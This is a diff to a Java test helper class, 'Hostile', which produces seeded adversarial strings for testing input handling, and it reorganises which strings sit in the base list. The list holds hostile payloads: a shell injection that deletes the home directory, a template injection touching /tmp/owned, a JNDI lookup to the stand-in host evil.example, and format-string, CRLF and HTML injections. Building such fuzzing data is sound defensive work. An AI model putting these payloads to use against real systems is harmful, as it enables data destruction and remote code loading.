@@ -3,6 +3,7 @@ package dev.sidelight;
 import java.util.HexFormat;
 import java.util.List;
 import java.util.Random;
+import java.util.stream.Stream;
 
 /** Text that means harm, made up from a seed, and what of it must never be shown. */
 public final class Hostile {
@@ -35,14 +36,12 @@ public final class Hostile {
           "'; rm -rf ~; '",
           "\"; display dialog \"x",
           "--help",
-          "-u critical -h int:value:1",
-          "-e",
           "#{l:x}#(touch /tmp/owned)",
-          "%s%n%x\\n\\033[31m\\u001b[31m",
+          "%s%n%x",
           "{0}${jndi:ldap://evil.example}",
           "<b onclick=x>&amp;",
           "line\r\nx: y\n\nz",
-          "x".repeat(10_000));
+          "x".repeat(1_500));
 
   private final Random random;
 
@@ -50,9 +49,12 @@ public final class Hostile {
     random = new Random(seed);
   }
 
-  /** {@return texts each of which is one attack} */
+  /** {@return texts each of which is one attack; some would be too long as parts of others} */
   public static List<String> attacks() {
-    return ATTACKS;
+    var more =
+        Stream.of(
+            "-u critical -h int:value:1", "-e", "%d\\n\\033[31m\\u001b[31m", "y".repeat(10_000));
+    return Stream.concat(ATTACKS.stream(), more).toList();
   }
 
   /** {@return the next text; now and then it is harmless} */
